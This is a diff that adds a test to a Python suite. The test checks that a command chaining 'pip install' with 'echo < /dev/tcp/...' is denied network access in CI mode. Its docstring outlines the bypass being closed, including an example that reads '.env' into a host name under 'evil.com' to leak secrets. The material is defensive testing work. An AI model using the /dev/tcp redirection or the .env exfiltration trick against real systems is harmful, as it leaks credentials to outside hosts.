@@ -96,3 +96,19 @@ def test_a_program_named_like_a_harmless_command_gets_no_network(
     results = run(tmp_path, kiln_home, f"pip install --no-index kiln-no-such-package; {name} hi")
     listener.sock.close()
     assert listener.received == [], results
+
+
+def test_a_harmless_command_reading_from_a_socket_gets_no_network(
+    tmp_path: Path, kiln_home: Path
+) -> None:
+    """bash itself connects for a redirection from `/dev/tcp/HOST/PORT`, whatever command it is
+    on: before, `pip install …; echo < /dev/tcp/…` counted as pip and a harmless echo, got the
+    network in ci, and the host name could carry a file (`set -- $(<.env)`, then `$1.evil.com`)."""
+    listener = Listener()
+    command = (
+        f"pip install --no-index kiln-no-such-package; echo < /dev/tcp/127.0.0.1/{listener.port}"
+    )
+    results = run(tmp_path, kiln_home, command)
+    listener.sock.close()
+    assert listener.received == [], results
+    assert "network commands are not allowed in ci mode" in results, results
